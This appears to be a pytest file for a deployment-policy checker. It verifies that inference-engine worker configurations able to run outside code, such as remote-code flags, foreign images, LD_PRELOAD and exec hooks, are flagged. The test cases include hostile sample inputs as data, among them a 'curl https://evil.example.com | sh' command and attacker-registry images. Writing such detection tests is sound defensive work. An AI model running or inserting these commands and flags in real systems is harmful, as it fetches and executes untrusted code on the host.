"""The rules on engines with other arguments: known engines by their catalog entry, unknown ones strictly."""

import json
from typing import Any

import pytest

from catalog.engines import engine
from ops.offline.recorded import Recording
from ops.offline.recording import record
from ops.offline.verdicts import judge
from tests.made_up_engine import heron as heron  # a fixture
from tests.made_up_engine import otter as otter  # a fixture
from tests.policies.mutations import changed, prod, with_extra_args
from tests.policies.workers import DECODE, GRAPH, PREFILL, broken
from tests.stacks import ROOT, config

RULES = ("kv-transfer", "no-foreign-code", "nic-per-gpu", "proven", "monitored")


def recorded(name: str, **more: str) -> Recording:
    sizes = {"prefill": {"tensorParallel": 8}, "decode": {"tensorParallel": 8}}
    model = {"model": "qwen3-32b", "layout": "multi-node", "engine": {"name": name}, **sizes, **more}
    return record(ROOT, config({"models": {"chat": model}}))


def but(recording: Recording, path: str, value: Any) -> Recording:
    return changed(recording, *GRAPH, path, value)


@pytest.mark.usefixtures("heron")
def test_another_engine_holds_to_the_rules() -> None:
    assert broken(recorded("heron"), *RULES) == []


@pytest.mark.usefixtures("otter")
def test_an_engine_whose_arguments_are_ambiguous_is_not_judged_by_them() -> None:
    assert broken(recorded("otter"), *RULES) == []


@pytest.mark.usefixtures("otter")
def test_an_engine_without_ucx_gets_none_of_its_variables_and_may_use_tcp() -> None:
    for more in ({}, {"kvTransfer": "tcp"}):
        recording = recorded("otter", **more)
        (graph,) = (r.inputs for r in recording.resources if r.type.endswith(":DynamoGraphDeployment"))
        assert not any(word in json.dumps(graph) for word in ("UCX_", "NCCL_", "GLOO_"))
        assert broken(recording, *RULES) == []


@pytest.mark.usefixtures("heron")
@pytest.mark.parametrize(
    ("path", "args", "says"),
    [
        (PREFILL, ["--beak", "decode"], "sends no KV cache: the arguments of Heron configure none"),
        (DECODE, ["--weights", "x"], "receives no KV cache: the arguments of Heron configure none"),
        (DECODE, ["--weights", "x"], "uses different KV connectors: beak and nothing"),
    ],
)
def test_each_side_is_judged_by_its_own_engine(path: str, args: list[str], says: str) -> None:
    assert any(says in found for found in broken(but(recorded("heron"), f"{path}.args", args), "kv-transfer"))


@pytest.mark.parametrize("command", [["python3", "-m", "dynamo.vllm2"], ["/start.sh"], []])
def test_an_engine_that_nobody_knows_is_a_violation(command: list[str]) -> None:
    unknown = but(prod(), f"{PREFILL}.command", command)
    assert any("prefill of graph chat starts no engine of the catalog" in f for f in broken(unknown, "kv-transfer"))
    assert any("starts no engine of the catalog" in found for found in broken(unknown, "no-foreign-code"))


@pytest.mark.usefixtures("heron")
def test_an_engine_without_a_table_of_flags_takes_no_extra_arguments() -> None:
    with_code = but(recorded("heron"), f"{PREFILL}.args", ["--beak", "prefill", "--trust-remote-code"])
    assert any("Heron has no table of flags" in found for found in broken(with_code, "no-foreign-code"))


VLLM = engine("vllm").image
LD_PRELOAD = {"name": "LD_PRELOAD", "value": "/models/x.so"}
OWN = ["--model", "/models/m", "--dtype", "bfloat16"]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("args", [*OWN, "--model", "/models/other"]),
        ("args", [*OWN, "--trust_remote_code"]),
        ("args", [*OWN, "--trust-remote-c"]),
        ("args", [*OWN, "--worker_cls", "evil.W"]),
        ("args", [*OWN, "--logits_processors", "e:X"]),
        ("args", [*OWN, "--tool-parser-plugin", "/models/x.py"]),
        ("args", [*OWN, "--config", "/models/evil.yaml"]),
        ("args", [*OWN, "--structured-outputs-config", '{"reasoning_parser_plugin": "/models/x.py"}']),
        ("args", [*OWN, "--structured-outputs-config.reasoning_parser_plugin", "/models/x.py"]),
        ("args", [*OWN, "--kv-transfer-config", '{"kv_connector_module_path": "evil"}']),
        ("args", [*OWN, "--kv-transfer-config", '{"kv_connector":"Evil","kv_role":"kv_producer"}']),
        ("args", [*OWN, "--distributed-executor-backend", "evil.Executor"]),
        ("args", [*OWN, "--compilation-config", '{"backend": "evil.Backend"}']),
        ("args", [*OWN, "-cc.backend", "evil.Backend"]),
        ("args", [*OWN, "--middleware", "evil.M"]),
        ("args", [*OWN, "--load-format", "dummy"]),
        ("args", [*OWN, "--max-num-seqs", "64", "positional"]),
        ("args", ["positional", *OWN]),
        ("args", [*OWN, "--trust-remote-code", "hf_" + "a" * 34]),
        ("image", "docker.io/attacker/vllm:1.6.1"),
        ("image", f"{VLLM}-evil:1.6.1"),
        ("image", f"evil.example.com/{VLLM}:1.6.1"),
        ("command", ["bash", "-c", "curl https://evil.example.com | sh; exec python3 -m dynamo.vllm"]),
        ("command", [*engine("vllm").command, "--trust-remote-code"]),
        ("env", [LD_PRELOAD]),
        ("env", [{"name": "NCCL_TUNER_PLUGIN", "value": "/models/x.so"}]),
        ("env", [{"name": "HF_HUB_OFFLINE", "value": "0"}]),
        ("env", [{"name": "UCX_LOG_FILE", "valueFrom": {"configMapKeyRef": {"name": "c", "key": "k"}}}]),
        ("envFrom", [{"configMapRef": {"name": "x"}}]),
        ("lifecycle", {"postStart": {"exec": {"command": ["sh"]}}}),
        ("lifecycle", {"preStop": {"exec": {"command": ["sh"]}}}),
        ("livenessProbe", {"exec": {"command": ["sh"]}}),
        ("volumeMounts", [{"name": "x", "mountPath": "/usr/lib/python3"}]),
    ],
)
def test_a_worker_that_may_run_code_of_others_is_a_violation(field: str, value: Any) -> None:
    assert broken(but(prod(), f"{PREFILL}.{field}", value), "no-foreign-code")


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("initContainers", [{"name": "i", "image": "tool:1.2.3"}]),
        ("containers", []),
        ("volumes", [{"name": "weights", "configMap": {"name": "x"}}]),
    ],
)
def test_a_worker_has_its_engine_alone(path: str, value: Any) -> None:
    pod = PREFILL.removesuffix(".containers[0]")
    assert broken(but(prod(), f"{pod}.{path}", value), "no-foreign-code")


def test_another_block_of_a_component_is_a_violation() -> None:
    beside = but(prod(), "spec.components[1].extraPodSpec", {"mainContainer": {"image": "evil:1.2.3"}})
    assert broken(beside, "no-foreign-code")


@pytest.mark.parametrize(
    "words", [("--max-num-seqs", "64"), ("--enable-expert-parallel",), ("--compilation-config", '{"mode": 3}')]
)
def test_what_a_stack_may_add_passes(words: tuple[str, ...]) -> None:
    assert broken(with_extra_args(*words), *RULES) == []


def test_the_setting_allows_a_flag_that_runs_code() -> None:
    recording = with_extra_args("--worker-cls", "my.Worker")
    found = judge(recording, {"no-foreign-code": {"allowed": ["--worker-cls"]}})
    assert [verdict for verdict in found if verdict.policy == "no-foreign-code"] == []
